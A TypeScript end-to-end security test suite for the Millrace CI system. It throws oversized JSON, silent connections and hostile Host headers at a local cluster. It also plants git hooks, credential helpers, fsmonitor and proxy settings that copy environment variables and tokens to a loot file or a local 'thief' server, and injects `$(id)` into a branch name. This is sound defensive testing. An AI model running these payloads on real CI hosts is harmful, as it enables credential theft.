import { randomBytes } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import type { Socket } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { Result } from '@millrace/domain';
import { type Cluster, type ClusterPort, eventually, type FakeCommand, FakeWorker } from '@millrace/testing';
import { TestRepository } from './git-repository.js';
import { Api } from './resources.js';
import { GitServer, Thief } from './security/git-server.js';
import { brackets, send, sendFrames, silent, untilClosed } from './security/attacks.js';
import { Bystander, withstands } from './security/standing.js';
import { FIXTURES, millrace, type Stack, startStack } from './stacks.js';

/**
 * Attacks on running processes, each an example of its kind. Afterwards the processes are still the same ones and as large as before, and
 * others have hardly noticed the attack (docs/security.md says what may be sent by whom).
 */
describe('security', () => {
  const HOSTILE_PASSWORD = randomBytes(16).toString('hex');
  const TRIGGER_TOKEN = randomBytes(16).toString('hex');
  const GIT_TOKEN = randomBytes(16).toString('hex');
  let stack: Stack;
  let cluster: Cluster;
  let bystander: Bystander;
  let api: Api;
  let repository: TestRepository;
  let server: GitServer;
  let thief: Thief;

  beforeAll(async () => {
    stack = await startStack('embedded');
    repository = new TestRepository(join(stack.folder, 'repository'));
    repository.commit('good');
    execFileSync('git', ['clone', '--quiet', '--bare', repository.folder, join(stack.folder, 'served/private.git')]);
    server = await new GitServer(join(stack.folder, 'served'), `ci:${GIT_TOKEN}`).listen();
    thief = await new Thief().listen();
    server.elsewhere = thief.url;
    cluster = await stack.start(join(FIXTURES, 'security.config.ts'), {
      E2E_REPOSITORY: repository.url,
      E2E_HOSTILE_PASSWORD: HOSTILE_PASSWORD,
      E2E_GIT_SERVER: server.url,
      E2E_GIT_TOKEN: GIT_TOKEN,
      MILLRACE_TRIGGER_TOKEN: TRIGGER_TOKEN,
      MILLRACE_WORKER_MAX: '20',
    });
    api = new Api(cluster);
    bystander = Bystander.start(cluster);
    await succeeds('true');
  });
  afterAll(async () => {
    bystander?.stop();
    await cluster?.stop();
    server?.stop();
    thief?.stop();
    await stack?.stop();
  });

  const at = (port: ClusterPort, path = ''): string => `http://127.0.0.1:${cluster.ports[port]}${path}`;
  const ws = (port: ClusterPort): string => `ws://127.0.0.1:${cluster.ports[port]}/ws`;
  const workers = (): string => `ws://127.0.0.1:${cluster.ports.workers}`;
  const json = { 'content-type': 'application/json' };
  const bearer = { ...json, authorization: `Bearer ${TRIGGER_TOKEN}` };

  async function triggered(builder: string, more: object = {}): Promise<number> {
    const response = await fetch(at('trigger', '/trigger'), {
      method: 'POST',
      headers: bearer,
      body: JSON.stringify({ scheduler: 'trigger', builders: [builder], ...more }),
    });
    expect(response.status).toBe(202);
    return ((await response.json()) as { requests: { id: number }[] }).requests[0]!.id;
  }
  /**
   * Triggers a build and waits for its success.
   * @returns the build's id
   */
  async function succeeds(builder: string, more: object = {}): Promise<number> {
    const requestId = await triggered(builder, more);
    await eventually(async () => (await api.request(requestId)).results === Result.SUCCESS, {
      timeoutMs: 30_000,
      what: `a green build of ${builder}`,
    });
    return (await api.attempts(requestId)).at(-1)!.buildid;
  }
  const hostile = (
    commands: Record<string, FakeCommand> = {},
    info: Record<string, unknown> = {},
  ): Promise<FakeWorker> =>
    FakeWorker.connect({ url: workers(), name: 'hostile', password: HOSTILE_PASSWORD, commands, info });

  describe('requests of strangers to a page', () => {
    const deep = brackets(30_000);
    it.each<[string, (string | Buffer)[]]>([
      ['a command that is 30,000 deep', [`{"_id":1,"cmd":${deep}}`]],
      ['an id that is 30,000 deep', [`{"_id":${deep},"cmd":"ping"}`]],
      ['a path that is 30,000 deep', [`{"_id":1,"cmd":"startConsuming","path":${deep}}`]],
      ['a frame of brackets', [deep, '{"a":'.repeat(10_000)]],
      ['binary', [randomBytes(60_000)]],
      ['a frame of a megabyte', ['x'.repeat(1 << 20)]],
      ['names that objects have', ['{"__proto__":{"cmd":"ping"},"_id":1}', '{"_id":1,"cmd":"constructor"}']],
      [
        'a thousand paths',
        Array.from({ length: 1000 }, (_, i) => `{"_id":${i},"cmd":"startConsuming","path":"a.${i}"}`),
      ],
    ])('%s on /ws harms nobody', async (_what, frames) => {
      await withstands(cluster, bystander, async () => {
        for (let times = 0; times < 5; times++) expect(await sendFrames(ws('ui'), frames)).toBe(true);
      });
    });

    it.each([
      ['deep JSON', brackets(30_000)],
      ['a deep member', `{"jsonrpc":"2.0","id":1,"method":"force","params":{"a":${brackets(30_000)}}}`],
      ['many members', `{"params":{${Array.from({ length: 60_000 }, (_, i) => `"k${i}":1`).join()}}}`],
      ['a long id', `{"jsonrpc":"2.0","id":"${'x'.repeat(900_000)}","method":"force","params":{}}`],
      ['no JSON', '{'.repeat(500_000)],
    ])('%s as a command is refused and harms nobody', async (_what, body) => {
      await withstands(cluster, bystander, async () => {
        for (let times = 0; times < 3; times++) {
          const status = await send(at('ui', '/api/v2/forceschedulers/force'), { body, headers: json });
          expect([400, 413]).toContain(status);
        }
      });
    });

    it.each([
      ['a name that objects have, for a boolean', '?complete=constructor'],
      ['no number', '?limit=x'],
      ['a field that objects have', '?field=toString'],
      ['an order that objects have', '?order=__proto__'],
      ['100,000 characters', `?a=${'x'.repeat(100_000)}`],
      ['10,000 parameters', `?${'a=1&'.repeat(10_000)}`],
    ])('%s in an address is refused', async (_what, query) => {
      expect([400, 414, 431]).toContain(await send(at('ui', `/api/v2/builds${query}`)));
    });
  });

  describe('requests of strangers to the trigger API', () => {
    const keys = `{${Array.from({ length: 125_000 }, (_, i) => `"k${i}":1`).join()}}`;

    it('are not parsed without the token', async () => {
      await withstands(cluster, bystander, async () => {
        for (let times = 0; times < 3; times++) {
          expect([401, 0]).toContain(await send(at('trigger', '/trigger'), { body: keys, headers: json }));
          const wrong = { ...json, authorization: 'Bearer wrong' };
          expect([401, 0]).toContain(await send(at('trigger', '/trigger'), { body: keys, headers: wrong }));
        }
      });
    });

    it.each([
      ['125,000 unknown keys', keys],
      ['125,000 properties', `{"scheduler":"trigger","properties":${keys}}`],
      ['deep properties', `{"scheduler":"trigger","properties":{"a":${brackets(30_000)}}}`],
      ['a list as source stamp', '{"scheduler":"trigger","sourceStamp":[{"branch":"main"}]}'],
      ['a text as source stamp', '{"scheduler":"trigger","sourceStamp":"main"}'],
      ['a list as properties', '{"scheduler":"trigger","properties":[]}'],
      ['an object as builders', '{"scheduler":"trigger","builders":{"0":"true"}}'],
      ['a list as body', '[]'],
      ['a repository with a password', '{"scheduler":"trigger","sourceStamp":{"repository":"https://u:p@h/x"}}'],
    ])('%s with the token is refused in time', async (_what, body) => {
      await withstands(cluster, bystander, async () => {
        for (let times = 0; times < 3; times++) {
          expect([400, 413]).toContain(await send(at('trigger', '/trigger'), { body, headers: bearer }));
        }
      });
    });
  });

  describe('slow or silent connections', () => {
    it('are closed, on every port', async () => {
      const head = 'GET /livez HTTP/1.1\r\nHost: localhost\r\n';
      const body = `Host: localhost\r\nAuthorization: Bearer ${TRIGGER_TOKEN}\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{`;
      const all: readonly [ClusterPort, string][] = [
        ['ui', `POST /api/v2/forceschedulers/force HTTP/1.1\r\n${body}`],
        ['trigger', `POST /trigger HTTP/1.1\r\n${body}`],
        ['ui', head],
        ['trigger', head],
        ['scheduler', head],
        ['engine', head],
        ['router', head],
        ['workers', head],
        ['ui', ''],
        ['trigger', ''],
        ['scheduler', ''],
        ['engine', ''],
        ['router', ''],
      ];
      await withstands(cluster, bystander, async () => {
        const sockets = await Promise.all(all.map(([port, bytes]) => silent(cluster.ports[port], bytes)));
        await untilClosed(sockets, 60_000);
      });
    }, 180_000);

    it('keep no worker out', async () => {
      await withstands(cluster, bystander, async () => {
        const sockets: Socket[] = [];
        for (let i = 0; i < 60; i++) sockets.push(await silent(cluster.ports.workers));
        const late = await FakeWorker.connect({ url: workers(), name: 'late', password: HOSTILE_PASSWORD });
        expect(await late.keepaliveMs()).toBeLessThan(5000);
        await late.disconnect();
        for (const socket of sockets) socket.destroy();
      });
      await succeeds('true');
    });

    it('lock no worker out by guessing its password', async () => {
      const guesses = Array.from({ length: 12 }, (_, i) =>
        expect(FakeWorker.connect({ url: workers(), name: 'late', password: `wrong ${i}` })).rejects.toThrow(
          /401|429|503/,
        ),
      );
      const late = await FakeWorker.connect({ url: workers(), name: 'late', password: HOSTILE_PASSWORD });
      await late.disconnect();
      await Promise.all(guesses);
    }, 120_000);
  });

  describe('messages of workers', () => {
    it.each<[string, Record<string, FakeCommand>]>([
      [
        '3,000 names of logs in one update',
        {
          shell: (_args, context) =>
            context.update(
              ...Array.from({ length: 3000 }, (_, i) => ({ kind: 'log' as const, name: `log${i}`, text: 'x\n' })),
            ),
        },
      ],
      ['a name of a megabyte', { shell: (_args, context) => context.log('n'.repeat(1 << 20), 'x\n') }],
      [
        'a hundred thousand short lines in headers',
        { shell: (_args, context) => context.header('h\n'.repeat(100_000)) },
      ],
    ])(
      '%s ends its own build at most',
      async (_what, commands) => {
        const worker = await hostile(commands);
        const requestId = await triggered('hostile');
        await withstands(cluster, bystander, () =>
          eventually(async () => (await api.request(requestId)).complete, {
            timeoutMs: 60_000,
            what: 'the end of the build',
          }),
        );
        await worker.disconnect();
        await succeeds('true');
      },
      150_000,
    );

    it('50 MB of worker information are neither kept nor shown to everybody', async () => {
      await withstands(cluster, bystander, async () => {
        for (const info of [
          { host: 'x'.repeat(20 << 20) },
          { environ: { A: 'x'.repeat(20 << 20) } },
          { version: 'v'.repeat(1 << 20) },
        ]) {
          const worker = await hostile({}, info).catch(() => null);
          await worker?.disconnect();
        }
      });
      const page = await fetch(at('ui', '/api/v2/workers'));
      expect((await page.text()).length).toBeLessThan(300_000);
    }, 120_000);
  });

  describe('a pattern in the configuration that backtracks for ever', () => {
    it('delays neither the change that it is applied to nor the next', async () => {
      const branch = `${'a'.repeat(60)}!`;
      await withstands(cluster, bystander, async () => {
        repository.git('branch', branch);
        repository.git('branch', 'b-after-it');
        await eventually(
          async () => {
            const { changes } = await cluster.api<{ changes: { branch: string }[] }>('/changes?limit=50');
            const branches = changes.map((change) => change.branch);
            return branches.includes(branch) && branches.includes('b-after-it');
          },
          { timeoutMs: 30_000, what: 'both changes' },
        );
        await eventually(
          async () =>
            (await api.builds()).some((build) => build.complete && build.properties['branch']?.[0] === 'b-after-it'),
          { timeoutMs: 30_000, what: 'a build of the branch after it' },
        );
      });
    }, 90_000);
  });

  describe("other people's pages", () => {
    const ports: ClusterPort[] = ['ui', 'scheduler', 'engine', 'trigger', 'router'];
    const path: Partial<Record<ClusterPort, string>> = { ui: '/api/v2/builders', trigger: '/trigger', router: '/ws' };

    it.each(ports)('are refused under a host name that was pointed at the %s', async (port) => {
      const url = at(port, path[port] ?? '/readyz');
      expect([403, 421]).toContain(await send(url, { headers: { host: 'evil.example', ...bearer } }));
    });

    it.each(['ui', 'router'] as const)('a page of another origin gets no events of the %s', async (port) => {
      const options = { origin: 'https://evil.example', ...(port === 'router' ? { protocol: 'wamp.2.json' } : {}) };
      expect(await sendFrames(ws(port), [], options)).toBe(false);
    });
  });

  describe('the router', () => {
    it.each<[string, string[]]>([
      ['deep frames', [`[1,"realm1",${brackets(30_000)}]`, brackets(30_000)]],
      ['frames of many values', [`[${'1,'.repeat(200_000)}1]`]],
      [
        'frames of nobody who has joined',
        ['[16,1,{},"org.millrace.x"]', '[32,1,{},"org.millrace."]', '[999999]', '{}', '""', 'null'],
      ],
      [
        'a HELLO with another ticket',
        ['[1,"realm1",{"authmethods":["ticket"],"authid":"millrace","roles":{}}]', '[5,"",{}]'],
      ],
    ])('%s end their own connection at most', async (_what, frames) => {
      await withstands(cluster, bystander, async () => {
        for (let times = 0; times < 5; times++) await sendFrames(ws('router'), frames, { protocol: 'wamp.2.json' });
      });
      await succeeds('true');
    });

    it('keeps room for masters, however many silent connections there are', async () => {
      await withstands(cluster, bystander, async () => {
        const sockets: Socket[] = [];
        for (let i = 0; i < 300; i++) sockets.push(await silent(cluster.ports.router));
        for (const socket of sockets) socket.destroy();
      });
      await succeeds('true');
    });
  });

  describe('the credentials of a repository', () => {
    const ended = async (requestId: number): Promise<number> => {
      await eventually(async () => (await api.request(requestId)).complete, {
        timeoutMs: 40_000,
        what: 'the end of the build',
      });
      return (await api.request(requestId)).results;
    };

    it('are sent to their scope, and nowhere else', async () => {
      expect(await ended(await triggered('private'))).toBe(Result.SUCCESS);
      expect(
        await ended(await triggered('anywhere', { sourceStamp: { repository: `${server.url}/private.git` } })),
      ).toBe(Result.SUCCESS);
      for (const repositoryOf of [
        `${thief.url}/x.git`,
        `${server.url}/elsewhere/x.git`,
        `${server.url}@127.0.0.1:1/x.git`,
      ]) {
        const requestId = await triggered('anywhere', { sourceStamp: { repository: repositoryOf } }).catch(() => null);
        if (requestId !== null) expect(await ended(requestId)).toBeGreaterThanOrEqual(Result.FAILURE);
      }
      expect(thief.loot.join('\n')).not.toMatch(/"authorization"/i);
      expect(thief.loot.join('\n')).not.toContain(GIT_TOKEN);
    }, 180_000);

    it.each<[string, (loot: string, url: string) => string]>([
      [
        'hooks',
        (loot) =>
          `for h in post-checkout reference-transaction pre-auto-gc post-merge post-index-change; do printf '#!/bin/sh\nenv >> ${loot}; cat $(dirname $GIT_DIR)/../.millrace* >> ${loot} 2>/dev/null\n' > .git/hooks/$h; chmod +x .git/hooks/$h; done`,
      ],
      [
        'a helper for credentials',
        (loot) => `git config credential.helper '!f() { cat >> ${loot}; env >> ${loot}; }; f'`,
      ],
      ['another address for the same repository', (_loot, url) => `git config url.${url}/.insteadOf http://127.0.0.1:`],
      ['a proxy', (_loot, url) => `git config http.proxy ${url}`],
      [
        'a monitor of files',
        (loot) =>
          `printf '#!/bin/sh\nenv >> ${loot}\n' > /tmp/monitor.$$; chmod +x /tmp/monitor.$$; git config core.fsmonitor /tmp/monitor.$$`,
      ],
      [
        'a program for ssh and an editor',
        (loot) => `git config core.sshCommand 'env >> ${loot};'; git config core.askPass 'sh -c "env >> ${loot}"'`,
      ],
      [
        'links where files of ours were',
        (loot) =>
          `for f in .git-credentials .millrace-git .millrace-credentials; do ln -sfn ${loot} ../$f; ln -sfn ${loot} $f; done`,
      ],
      [
        'a configuration that includes another',
        (loot) =>
          `printf '[credential]\nhelper = "!f() { cat >> ${loot}; }; f"\n' > ../evil; git config include.path ../../evil`,
      ],
    ])(
      'are not stolen by %s that an earlier build has left',
      async (_what, plant) => {
        const loot = join(stack.folder, `loot-${randomBytes(4).toString('hex')}`);
        writeFileSync(loot, '');
        expect(await ended(await triggered('private', { properties: { script: plant(loot, thief.url) } }))).toBe(
          Result.SUCCESS,
        );
        expect(await ended(await triggered('private'))).toBe(Result.SUCCESS);
        expect(readFileSync(loot, 'utf8')).not.toContain(GIT_TOKEN);
        expect(thief.loot.join('\n')).not.toContain(GIT_TOKEN);
        expect(thief.loot.join('\n')).not.toMatch(/"(proxy-)?authorization"/i);
      },
      120_000,
    );

    it('are refused inside an address, with a hint how to configure them', () => {
      const file = join(stack.folder, 'leaky.config.ts');
      writeFileSync(
        file,
        `import { builder, defineConfig, gitPoller, worker } from '@millrace/config';
         import { git } from '@millrace/steps';
         export default defineConfig({
           workers: [worker('w')],
           changeSources: [gitPoller({ repository: 'http://ci:${GIT_TOKEN}@127.0.0.1/a.git' })],
           builders: [builder('b', { workers: ['w'], factory: [git({ repository: 'https://127.0.0.1/a.git?private_token=${GIT_TOKEN}' })] })],
         });`,
      );
      const { status, stdout, stderr } = millrace(['check-config', file]);
      expect(status).toBe(1);
      expect(stderr).toMatch(/changeSources\[0\]\.repository/);
      expect(stderr).toMatch(/factory\[0\]/);
      expect(stderr).toMatch(/credentials/);
      expect(stdout + stderr).not.toContain(GIT_TOKEN);
    });
  });

  it('runs no part of a branch name as a command', async () => {
    const buildId = await succeeds('greet', { sourceStamp: { branch: `x;id;$(id)'"\`id\`` } });
    const log = (await api.log(buildId, 'greet')).join('\n');
    expect(log).toContain(`branch=x;id;$(id)'"\`id\`.`);
    expect(log).not.toMatch(/uid=\d/);
  });

  it('shows a build no secret of a master or of its worker', async () => {
    const buildId = await succeeds('env');
    const log = (await api.log(buildId, 'env')).join('\n');
    expect(log).toMatch(/^PATH=/m);
    for (const name of [
      'MILLRACE_DB',
      'MILLRACE_BUS_TICKET',
      'MILLRACE_TRIGGER_TOKEN',
      'PASSWORD',
      'E2E_GIT_TOKEN',
      HOSTILE_PASSWORD,
      TRIGGER_TOKEN,
      GIT_TOKEN,
    ])
      expect(log).not.toContain(name);
  });

  it('shows its secrets nowhere', async () => {
    const secrets = [GIT_TOKEN, TRIGGER_TOKEN, HOSTILE_PASSWORD];
    const texts = new Map<string, string>([['what the processes have printed', cluster.output.join('\n')]]);
    const { builds } = await cluster.api<{ builds: { buildid: number }[] }>('/builds?limit=200&property=*');
    for (const path of [
      'changes',
      'changesources',
      'sourcestamps',
      'builds?property=*',
      'buildsets',
      'workers',
      'schedulers',
      'forceschedulers',
      'masters',
    ])
      texts.set(path, JSON.stringify(await cluster.api(`/${path}`)));
    for (const { buildid } of builds) {
      const { steps } = await cluster.api<{ steps: { stepid: number }[] }>(`/builds/${buildid}/steps`);
      texts.set(`steps of build ${buildid}`, JSON.stringify(steps));
      for (const { stepid } of steps) {
        const { logs } = await cluster.api<{ logs: { logid: number }[] }>(`/steps/${stepid}/logs`);
        for (const { logid } of logs)
          texts.set(`log ${logid}`, await (await fetch(at('ui', `/api/v2/logs/${logid}/raw`))).text());
      }
    }
    for (const name of readdirSync(stack.folder).filter((entry) => entry.startsWith('millrace.sqlite')))
      texts.set(name, readFileSync(join(stack.folder, name), 'latin1'));
    for (const pid of readdirSync('/proc').filter((entry) => /^\d+$/.test(entry))) {
      try {
        texts.set(`arguments of ${pid}`, readFileSync(`/proc/${pid}/cmdline`, 'latin1'));
      } catch {
        continue; // The process ended while we looked.
      }
    }
    for (const pid of [...cluster.pids('worker'), ...cluster.pids('runner')])
      texts.set(`environment of ${pid}`, readFileSync(`/proc/${pid}/environ`, 'latin1'));
    expect(texts.size).toBeGreaterThan(30);
    for (const [where, text] of texts)
      for (const secret of secrets) if (text.includes(secret)) throw new Error(`a secret is in ${where}`);
  });

  it('makes its data readable for its user only', () => {
    for (const name of ['', 'millrace.sqlite', 'millrace.sqlite-wal', 'worker-password', 'bus-ticket'])
      expect(statSync(join(stack.folder, name)).mode & 0o077).toBe(0);
  });
});
